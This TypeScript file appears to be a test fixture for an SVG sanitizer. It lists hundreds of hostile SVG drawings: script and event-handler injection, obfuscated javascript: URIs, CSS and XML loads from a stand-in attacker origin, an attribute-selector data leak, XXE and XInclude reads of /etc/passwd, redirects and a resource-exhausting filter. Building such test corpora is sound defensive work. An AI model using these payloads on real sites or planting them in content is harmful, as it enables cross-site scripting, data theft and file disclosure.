import { type DrawingAttack, each, evil, named, run, wrap } from './drawing-attack.ts';

/**
 * Drawings that try to run code, load resources or navigate, by the means of SVG, CSS and XML. `evil` is the
 * origin they would load from, `run` the code they would run.
 */
const events = `
  load error begin end repeat click mouseover mousemove mousedown focus focusin activate zoom scroll
  resize unload abort animationstart transitionend pointerenter wheel copy paste toggle beforematch
  contextmenu keydown message hashchange pageshow`
  .trim()
  .split(/\s+/);
const handlers = named('handler', {
  ...each(events, (name) => wrap(`<rect on${name}="${run}" width="100" height="100"/>`)),
  'on the root': wrap('<rect width="9" height="9"/>', ` onload="${run}"`),
  'with capitals': wrap('<rect width="9" height="9"/>', ` ONLOAD="${run}" onLoad="${run}"`),
  'in a namespace': wrap(
    `<rect ev:event="load" x:onload="${run}" xmlns:ev="e" xmlns:x="x" width="9" height="9"/>`,
  ),
  'on an animation': wrap(
    `<rect width="9" height="9"><animate onbegin="${run}" attributeName="x" dur="1s"/></rect>`,
  ),
  autofocus: wrap(`<a autofocus="" tabindex="0" onfocus="${run}"><rect width="9" height="9"/></a>`),
});

const scripts = named('script', {
  plain: wrap(`<script>${run}</script>`),
  'in CDATA': wrap(`<script><![CDATA[${run}]]></script>`),
  'with a type': wrap(`<script type="text/ecmascript">${run}</script>`),
  'of a module': wrap(`<script type="module">${run}</script>`),
  'from outside': wrap(`<script href="${evil}/a.js"/>`),
  'from outside by xlink': wrap(`<script xlink:href="${evil}/a.js"/>`),
  'as data': wrap(`<script href="data:text/javascript,${run}"/>`),
  'under a prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>${run}</s:script></s:svg>`,
  'of XHTML': wrap(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script>`),
  'of XHTML with a source': wrap(`<h:script xmlns:h="http://www.w3.org/1999/xhtml" src="${evil}/a.js"/>`),
  'with capitals': wrap(`<SCRIPT>${run}</SCRIPT>`),
  'in defs': wrap(`<defs><script>${run}</script></defs>`),
  'in a title': wrap(`<title><script>${run}</script></title>`),
  'in text': wrap(`<text><tspan><script>${run}</script></tspan></text>`),
  'in a symbol that is used': wrap(`<symbol id="a"><script>${run}</script></symbol><use href="#a"/>`),
  'in metadata': wrap(`<metadata><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></metadata>`),
  'split by a comment': wrap(`<scr<!-- -->ipt>${run}</script>`),
  'escaped in text': wrap(`<text>&lt;script&gt;${run}&lt;/script&gt;</text>`),
  'escaped in a title': wrap(`<title>&lt;/title&gt;&lt;script&gt;${run}&lt;/script&gt;</title>`),
  'in a handler element': wrap(
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler>`,
  ),
  'by a listener': wrap(
    '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/>',
  ),
  'after the root': `${wrap('')}<script>${run}</script>`,
  'before the root': `<script>${run}</script>${wrap('')}`,
});

const places = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java&#x09;script:${run}`,
  `java&#10;script:${run}`,
  `&#x6A;avascript:${run}`,
  ` javascript:${run}`,
  `data:text/html,&lt;script&gt;${run}&lt;/script&gt;`,
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=',
  `${evil}/a`,
  '//evil.example/a',
  '/api/v1/auth/logout',
  'vbscript:msgbox(1)',
];
const referringElements = [
  'a',
  'use',
  'image',
  'feImage',
  'textPath',
  'mpath',
  'pattern',
  'linearGradient',
  'animate',
];
const links = [
  ...referringElements.flatMap((element) =>
    named(`link of ${element}`, {
      ...each(places.slice(0, 10), (place) =>
        wrap(`<${element} href="${place}" width="9" height="9"><rect width="9" height="9"/></${element}>`),
      ),
    }),
  ),
  ...named(
    'xlink of a',
    each(places, (place) => wrap(`<a xlink:href="${place}"><rect width="100" height="100"/></a>`)),
  ),
  ...named('base', { 'xml:base': wrap('<use href="#a"/>', ` xml:base="${evil}/"`) }),
];

const loads = [
  `url(${evil}/a)`,
  `url('${evil}/a')`,
  `url(&quot;${evil}/a&quot;)`,
  `url(//evil.example/a#b)`,
  `url(data:image/svg+xml,x)`,
  `u\\72l(${evil}/a)`,
  `\\75\\72\\6c(${evil}/a)`,
  `/**/url(${evil}/a)`,
  `url/**/(${evil}/a)`,
  `image-set('${evil}/a' 1x)`,
  `-webkit-image-set(url(${evil}/a) 1x)`,
  `cross-fade(url(${evil}/a), url(${evil}/b))`,
  `src('${evil}/a')`,
  `expression(${run})`,
  `url(#a), url(${evil}/a)`,
  `var(--a, url(${evil}/a))`,
];
const looks = ['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker-start', 'cursor'];
const values = looks.flatMap((look) => [
  ...named(
    `attribute ${look}`,
    each(loads.slice(0, 5), (value) => wrap(`<rect ${look}="${value}" width="9" height="9"/>`)),
  ),
  ...named(
    `style ${look}`,
    each(loads.slice(0, 8), (value) => wrap(`<rect style="${look}:${value}" width="9" height="9"/>`)),
  ),
]);

const sheets = named('style sheet', {
  ...each(loads, (value) =>
    wrap(`<style>rect{fill:${value};background:${value}}</style><rect width="9" height="9"/>`),
  ),
  '@import': wrap(`<style>@import url(${evil}/a.css);</style>`),
  '@import of a text': wrap(`<style>@import '${evil}/a.css';</style>`),
  '@import by an escape': wrap(`<style>@\\69mport '${evil}/a.css';</style>`),
  '@import in CDATA': wrap(`<style><![CDATA[@import '${evil}/a.css';]]></style>`),
  '@font-face': wrap(
    `<style>@font-face{font-family:a;src:url(${evil}/a.woff2)}text{font-family:a}</style><text>a</text>`,
  ),
  '@namespace': wrap(`<style>@namespace a url(${evil}/);</style>`),
  '@media inside @media': wrap(`<style>@media print{@media screen{rect{fill:url(${evil}/a)}}}</style>`),
  '@supports': wrap(`<style>@supports (fill:red){rect{fill:url(${evil}/a)}}</style>`),
  'a comment that stays open': wrap(`<style>/* rect{} <script>${run}</script></style>`),
  'a comment in a comment': wrap(`<style>/*/*/rect{fill:url(${evil}/a)}/**/</style>`),
  'its end in a text': wrap(`<style>a{content:'&lt;/style&gt;&lt;script&gt;${run}&lt;/script&gt;'}</style>`),
  'a selector of attributes': wrap(
    `<style>rect[width^="1"]{fill:url(${evil}/leak)}</style><rect width="1"/>`,
  ),
  'animation of a link': wrap(`<style>@keyframes a{to{fill:url(${evil}/a)}}rect{animation:a 1s}</style>`),
  behavior: wrap(`<style>rect{behavior:url(${evil}/a.htc);-moz-binding:url(${evil}/a.xml)}</style>`),
  'from outside': wrap(`<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${evil}/a.css"/>`),
});

const foreign = named('foreign', {
  'an iframe': wrap(
    `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${run}"/></foreignObject>`,
  ),
  'a page in an iframe': wrap(
    `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;${run}&lt;/script&gt;"/></foreignObject>`,
  ),
  'an object': wrap(
    `<foreignObject><object xmlns="http://www.w3.org/1999/xhtml" data="${evil}/a"/></foreignObject>`,
  ),
  'an embed': wrap(
    `<foreignObject><embed xmlns="http://www.w3.org/1999/xhtml" src="${evil}/a"/></foreignObject>`,
  ),
  'a picture': wrap(
    `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${run}"/></foreignObject>`,
  ),
  'a refresh': wrap(
    `<foreignObject><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${evil}/"/></foreignObject>`,
  ),
  'a refresh at the root': wrap(
    `<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${evil}/"/>`,
  ),
  'a form': wrap(
    `<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="${evil}/"><button autofocus="">a</button></form></foreignObject>`,
  ),
  'a video': wrap(`<video xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${run}"/>`),
  'an iframe of SVG': wrap(`<iframe href="${evil}/a"/>`),
  'another drawing inside': wrap(`<svg onload="${run}"><script>${run}</script></svg>`),
  MathML: wrap(`<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${run}"><mi>a</mi></math>`),
  'a name space of its own': wrap(`<x:a xmlns:x="urn:x"><x:script>${run}</x:script></x:a>`),
});

const motion = named('animation', {
  ...each(['animate', 'set', 'animateTransform', 'animateMotion', 'animateColor', 'discard'], (element) =>
    wrap(
      `<a id="l"><${element} attributeName="href" values="javascript:${run}" to="javascript:${run}" begin="0s" dur="1s"/><rect width="9" height="9"/></a>`,
    ),
  ),
  'of a handler': wrap(`<rect width="9" height="9"><set attributeName="onmouseover" to="${run}"/></rect>`),
  'of a use': wrap(`<use><animate attributeName="xlink:href" to="${evil}/a.svg#x"/></use>`),
  'of another element': wrap(
    `<animate href="#r" attributeName="fill" to="url(${evil}/a)"/><rect id="r" width="9" height="9"/>`,
  ),
});

const xml = named('XML', {
  entities: `<!DOCTYPE svg [<!ENTITY a "&lt;script&gt;${run}&lt;/script&gt;">]>${wrap('<text>&a;</text>')}`,
  'an entity from outside': `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${wrap('<text>&a;</text>')}`,
  'a parameter entity': `<!DOCTYPE svg [<!ENTITY % a SYSTEM "${evil}/a.dtd">%a;]>${wrap('')}`,
  'a document type from outside': `<!DOCTYPE svg SYSTEM "${evil}/a.dtd">${wrap('')}`,
  'attributes by default': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run}">]>${wrap('')}`,
  'a style sheet': `<?xml-stylesheet href="${evil}/a.css"?>${wrap('')}`,
  'a style sheet that transforms': `<?xml-stylesheet type="text/xsl" href="${evil}/a.xsl"?>${wrap('')}`,
  'a style sheet of data': `<?xml-stylesheet type="text/css" href="data:text/css,*{fill:url(${evil}/a)}"?>${wrap('')}`,
  XSLT: `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>`,
  XInclude: wrap('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
  'another encoding': `<?xml version="1.0" encoding="UTF-7"?>${wrap('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')}`,
  'a null': wrap(`<scr\u0000ipt>${run}</scr\u0000ipt>`),
  'an attribute twice': wrap(`<rect fill="red" fill="url(${evil}/a)"/>`),
  'an open tag': wrap('<rect'),
  'CDATA in the open': wrap(`<![CDATA[<script>${run}</script>]]>`),
  HTML: `<html><body><script>${run}</script></body></html>`,
  'HTML around it': `<html xmlns="http://www.w3.org/1999/xhtml"><body>${wrap('')}<script>${run}</script></body></html>`,
  'text before it': `a${wrap('')}`,
  nothing: '',
});

export const drawingAttacks: readonly DrawingAttack[] = [
  ...[handlers, scripts, links, values, sheets, foreign, motion, xml].flat(),
  ...named('filter', {
    'a picture from outside': wrap(
      `<filter id="f"><feImage href="${evil}/a"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
    ),
    'a huge one': wrap(
      '<filter id="f" x="-1e9" y="-1e9" width="1e12" height="1e12"><feGaussianBlur stdDeviation="1e9"/></filter><rect filter="url(#f)" width="9" height="9"/>',
    ),
  }),
];
